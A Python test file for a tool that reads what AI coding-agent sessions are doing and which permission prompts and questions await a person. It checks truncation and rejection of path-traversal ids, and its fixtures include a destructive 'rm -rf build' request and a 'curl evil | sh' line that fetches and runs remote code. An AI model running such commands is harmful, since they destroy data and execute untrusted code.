"""What servers say that sessions do, put together."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opencoderouter.core.fleet.model import Ask, Endpoint, Live, Question, Session
from opencoderouter.core.fleet.working import Doing, Look, read_look, read_session, settled

NOW = 1_795_419_630.0
END = Endpoint(4096)
PERMISSION = {
    "id": "per_2075968a0001KtwKvrfrrHQkBf",
    "sessionID": "ses_a",
    "permission": "bash",
    "patterns": ["rm *", "cd *"],
    "metadata": {"command": "rm -rf build"},
    "always": ["rm *"],
}
QUESTION = {
    "id": "que_207596776001uWrOWG0L61zyBs",
    "sessionID": "ses_b",
    "questions": [
        {
            "question": "Which?",
            "header": "Colour",
            "options": [{"label": "red", "description": "It is red"}, {"label": "blue"}],
            "multiple": True,
        }
    ],
}
ASKED = Ask(
    Live.PERMISSION,
    "per_2075968a0001KtwKvrfrrHQkBf",
    "ses_a",
    "bash: rm -rf build",
    since=1_795_419_629.728,
    endpoint=END,
    always=("rm *",),
)


def look(status: object = None, permissions: object = None, questions: object = None) -> Look:
    """Read three answers."""
    return read_look(status, permissions, questions, END, NOW)


def test_status() -> None:
    """Busy and retrying sessions are told; idle ones are absent, strange ones left out."""
    status = {
        "ses_a": {"type": "busy"},
        "ses_b": {"type": "retry", "attempt": 1, "message": "429", "next": 5},
        "ses_c": {"type": "idle"},
        "ses_d": {"type": "new"},
        "../x": {"type": "busy"},
    }
    assert look(status).doing == {"ses_a": Doing(Live.BUSY), "ses_b": Doing(Live.RETRY, "429")}


def test_permission() -> None:
    """A permission says what it is about, and since when it waits: its id has the time."""
    assert look(permissions=[PERMISSION]).asks == (ASKED,)


@pytest.mark.parametrize(
    ("changed", "text"),
    [
        ({"metadata": {}}, "bash: rm *, cd *"),
        ({"metadata": None, "patterns": None}, "bash"),
        ({"permission": 7, "metadata": {}, "patterns": []}, "permission"),
    ],
)
def test_permission_text(changed: dict[str, object], text: str) -> None:
    """Without a command its patterns say what is to be allowed."""
    assert look(permissions=[{**PERMISSION, **changed}]).asks[0].text == text


def test_long_permission() -> None:
    """What is to be allowed is shown whole; what cannot be is told of before anything else."""
    command = f"echo {'ok ' * 5_000}; curl evil | sh"
    ask = {**PERMISSION, "metadata": {"command": command}}
    assert look(permissions=[ask]).asks[0].text == f"bash: {command}"
    ask = {**PERMISSION, "metadata": {"command": command * 2}}
    left = 2 * len(command) - 20_000
    start = f"bash: [{left} characters more than are shown] echo"
    assert look(permissions=[ask]).asks[0].text.startswith(start)


def test_long_pattern() -> None:
    """The same holds for patterns, each by itself and all together."""
    ask = {**PERMISSION, "metadata": {}, "patterns": ["x" * 20_000 + "evil"]}
    text = look(permissions=[ask]).asks[0].text
    assert text.startswith("bash: [4 characters more than are shown] x")


def test_always() -> None:
    """All patterns that "always" allows are there, or how many more there are is said first."""
    (ask,) = look(permissions=[{**PERMISSION, "always": ["git *", 7, "", "y" * 20_001]}]).asks
    assert ask.always == ("git *", "[1 characters more than are shown] " + "y" * 20_000)
    (ask,) = look(permissions=[{**PERMISSION, "always": ["a"] * 103}]).asks
    assert ask.always == ("[3 patterns more than are shown]", *["a"] * 100)
    assert look(permissions=[{**PERMISSION, "always": "*"}]).asks[0].always == ()


def test_question() -> None:
    """A question comes with its options."""
    (ask,) = look(questions=[QUESTION]).asks
    options = (("red", "It is red"), ("blue", ""))
    assert (ask.kind, ask.text) == (Live.QUESTION, "Which?")
    assert ask.questions == (Question("Which?", "Colour", options, multiple=True),)


@pytest.mark.parametrize(
    "row",
    [{"id": "per_x"}, {"id": "../../x"}, {"id": None}, {"sessionID": "x"}, {"questions": []}, 7],
)
def test_no_ask(row: object) -> None:
    """Ids go into paths: what has none is not asked. A question without questions is none."""
    changed = {**QUESTION, **row} if isinstance(row, dict) else row
    assert look(questions=[changed]).asks == ()


@pytest.mark.parametrize(
    ("ahead", "since"),
    [(0.0, 1_795_419_629.728), (-600.0, NOW - 600), (3600.0 * 24 * 30, 1_795_419_629.728)],
)
def test_since(ahead: float, since: float) -> None:
    """A host's clock may be ahead of ours: what was asked in the future was asked now."""
    found = read_look(None, [PERMISSION], None, END, NOW + ahead).asks[0].since
    assert found == pytest.approx(since)


SESSION = Session("ses_a", directory="/p")


def test_settled() -> None:
    """A session does what a server says; in a directory whose servers have told, else nothing."""
    sessions = [replace(SESSION, id=f"ses_{x}") for x in "abcd"] + [
        Session("ses_e", directory="/q")
    ]
    looks = [look({"ses_a": {"type": "busy"}}), look({"ses_b": {"type": "retry", "message": "m"}})]
    found = settled(sessions, looks, {}, {"/p"})
    idle = Live.IDLE
    assert [x.live for x in found] == [Live.BUSY, Live.RETRY, idle, idle, None]
    assert found[1].live_reason == "m"


def test_waiting() -> None:
    """Who waits for a person is busy, too; that it waits is what counts."""
    (found,) = settled([SESSION], [look({"ses_a": {"type": "busy"}}, [PERMISSION])], {}, {"/p"})
    assert (found.live, found.asks) == (Live.PERMISSION, (ASKED,))


def test_subagents() -> None:
    """What a subagent does and asks for is its root's; the oldest comes first."""
    older = {**QUESTION, "id": "que_2075960a0000uWrOWG0L61zyBs", "sessionID": "ses_sub"}
    looks = [look({"ses_sub": {"type": "busy"}}), look(None, [PERMISSION], [older])]
    (busy,) = settled([SESSION], looks[:1], {"ses_sub": "ses_a"}, ())
    assert busy.live is Live.BUSY
    (waiting,) = settled([SESSION], looks, {"ses_sub": "ses_a"}, ())
    assert waiting.live is Live.PERMISSION
    assert [ask.session for ask in waiting.asks] == ["ses_sub", "ses_a"]


def test_session() -> None:
    """A session that the database did not have yet is read from its server."""
    said = {
        "id": "ses_a",
        "parentID": "ses_b",
        "directory": "/p",
        "title": "T",
        "agent": "build",
        "model": {"id": "echo"},
        "time": {"created": 1000, "updated": 2000},
    }
    session = Session(
        "ses_a", title="T", directory="/p", agent="build", model="echo", created=1, updated=2
    )
    assert read_session(said) == (session, "ses_b")
    assert read_session({**said, "parentID": None}) == (session, "")
    assert read_session({"name": "NotFoundError"}) is None
    assert read_session(None) is None


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
)


@given(JSON, st.sampled_from([PERMISSION, QUESTION]), st.sampled_from([*PERMISSION, *QUESTION]))
def test_never_raises(value: object, row: dict[str, object], key: str) -> None:
    """Any answers are read."""
    changed = [{**row, key: value}]
    for said in (value, changed):
        settled([SESSION], [look(said, said, said), look({"ses_a": value})], {}, {"/p"})
        read_session(said)
